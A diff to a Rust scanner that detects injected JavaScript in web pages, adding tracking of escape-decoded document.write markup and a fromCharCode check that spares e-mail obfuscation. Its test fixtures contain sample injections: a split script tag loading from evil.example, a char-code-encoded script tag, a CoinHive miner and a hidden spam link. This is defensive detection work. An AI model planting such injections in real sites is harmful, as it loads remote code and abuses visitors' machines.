@@ -27,8 +27,12 @@ pub enum Signal {
     /// against search engines, then `location` set).
     ReferrerRedirect { snippet: String },
     /// Markup written with `document.write`, decoded as far as string literals and
-    /// `unescape` go.
-    Written { html: String, snippet: String },
+    /// `unescape` go; `decoded` when escapes had to be decoded to read it.
+    Written {
+        html: String,
+        snippet: String,
+        decoded: bool,
+    },
     /// The script hides the elements that `selector` (`#id` or `.class`) names.
     Hides { selector: String, snippet: String },
 }
@@ -66,13 +70,18 @@ static HIDE_BY_JQUERY: LazyLock<Regex> = LazyLock::new(|| {
 pub fn scan(text: &str) -> Vec<Signal> {
     let text = truncate(text, MAX_SCRIPT_BYTES);
     let mut signals = Vec::new();
-    for pattern in [&*EVAL_DECODE, &*CHAR_CODES, &*HEX_BLOB] {
-        if let Some(m) = pattern.find(text) {
-            signals.push(Signal::Obfuscation {
-                snippet: around(text, m.start()),
-            });
-            break;
-        }
+    let obfuscated = EVAL_DECODE
+        .find(text)
+        .or_else(|| HEX_BLOB.find(text))
+        .or_else(|| {
+            CHAR_CODES
+                .find_iter(text)
+                .find(|m| decodes_to_code(m.as_str()))
+        });
+    if let Some(m) = obfuscated {
+        signals.push(Signal::Obfuscation {
+            snippet: around(text, m.start()),
+        });
     }
     if let Some(m) = MINER.find(text) {
         signals.push(Signal::Miner {
@@ -89,11 +98,12 @@ pub fn scan(text: &str) -> Vec<Signal> {
     }
     for m in WRITE.find_iter(text) {
         let argument = call_argument(&text[m.end()..]);
-        let html = decode_argument(argument);
+        let (html, decoded) = decode_argument(argument);
         if !html.trim().is_empty() {
             signals.push(Signal::Written {
                 html,
                 snippet: around(text, m.start()),
+                decoded,
             });
         }
     }
@@ -114,6 +124,25 @@ pub fn scan(text: &str) -> Vec<Signal> {
         }
     }
     signals
+}
+
+/// A `String.fromCharCode(n, n, ...)` chain that spells code or an address: pages also spell
+/// e-mail addresses this way to hide them from harvesters (`mailto:`), which is not injected
+/// code.
+fn decodes_to_code(call: &str) -> bool {
+    let Some(open) = call.find('(') else {
+        return false;
+    };
+    let decoded: String = call[open + 1..]
+        .split(',')
+        .filter_map(|n| n.trim().parse::<u32>().ok())
+        .filter_map(char::from_u32)
+        .collect::<String>()
+        .to_ascii_lowercase();
+    !decoded.contains("mailto:")
+        && ["<script", "<iframe", "http", "location", "eval", "document", "window", "<a "]
+            .iter()
+            .any(|w| decoded.contains(w))
 }
 
 /// At most `max` bytes of `text`, cut at a character boundary.
@@ -166,8 +195,10 @@ fn call_argument(after_paren: &str) -> &str {
 
 /// The markup a `document.write` argument writes, as far as it can be read statically: its
 /// string literals joined (variables between them are left out), `%XX` escapes decoded when the
-/// argument calls `unescape` or `decodeURIComponent`, JavaScript escapes decoded.
-fn decode_argument(argument: &str) -> String {
+/// argument calls `unescape` or `decodeURIComponent`, JavaScript escapes decoded; and whether
+/// any `\x`/`\u` or `%` escape had to be decoded.
+fn decode_argument(argument: &str) -> (String, bool) {
+    let mut escaped = false;
     let mut joined = String::new();
     let bytes = argument.as_bytes();
     let mut i = 0;
@@ -183,6 +214,7 @@ fn decode_argument(argument: &str) -> String {
                 if bytes[i] == b'\\' && i + 1 < bytes.len() {
                     literal.push_str(&argument[segment_start..i]);
                     let (decoded, used) = js_escape(&argument[i + 1..]);
+                    escaped |= used > 1;
                     literal.push_str(&decoded);
                     i += 1 + used;
                     segment_start = i;
@@ -200,9 +232,11 @@ fn decode_argument(argument: &str) -> String {
     }
     let lower = argument.to_ascii_lowercase();
     if lower.contains("unescape") || lower.contains("decodeuri") {
-        percent_decode(&joined)
+        let decoded = percent_decode(&joined);
+        let changed = decoded != joined;
+        (decoded, escaped || changed)
     } else {
-        joined
+        (joined, escaped)
     }
 }
 
@@ -304,8 +338,16 @@ mod tests {
         let codes = (0..30).map(|n| (60 + n).to_string()).collect::<Vec<_>>();
         assert_eq!(
             kinds(&format!("var s=String.fromCharCode({});", codes.join(","))),
+            Vec::<&str>::new(),
+            "letters and digits are not code"
+        );
+        let code: Vec<String> = "<script src=http://x.example>".bytes().map(|b| b.to_string()).collect();
+        assert_eq!(
+            kinds(&format!("var s=String.fromCharCode({});", code.join(","))),
             ["obfuscation"]
         );
+        let mail: Vec<String> = "<a href=\"mailto:press@example.org\">".bytes().map(|b| b.to_string()).collect();
+        assert!(kinds(&format!("document.body.innerHTML+=String.fromCharCode({});", mail.join(","))).is_empty());
         assert_eq!(
             kinds("var miner = new CoinHive.Anonymous('key'); miner.start();"),
             ["miner"]
@@ -329,11 +371,13 @@ mod tests {
         let signals = scan(
             r#"document.write(unescape("%3Cdiv style='display:none'%3E%3Ca href='http://x.example/'%3E百家乐%3C/a%3E%3C/div%3E"));"#,
         );
-        assert!(matches!(&signals[..], [Signal::Written { html, .. }]
+        assert!(matches!(&signals[..], [Signal::Written { html, decoded: true, .. }]
             if html == "<div style='display:none'><a href='http://x.example/'>百家乐</a></div>"));
         let signals = scan(r#"document.write('<scr' + 'ipt src="\x2f\x2fevil.example/a.js"></scr' + 'ipt>');"#);
-        assert!(matches!(&signals[..], [Signal::Written { html, .. }]
+        assert!(matches!(&signals[..], [Signal::Written { html, decoded: true, .. }]
             if html == r#"<script src="//evil.example/a.js"></script>"#));
+        let signals = scan(r#"document.write('<scr' + 'ipt src="//cdn.example/a.js"></scr' + 'ipt>');"#);
+        assert!(matches!(&signals[..], [Signal::Written { decoded: false, .. }]));
     }
 
     #[test]
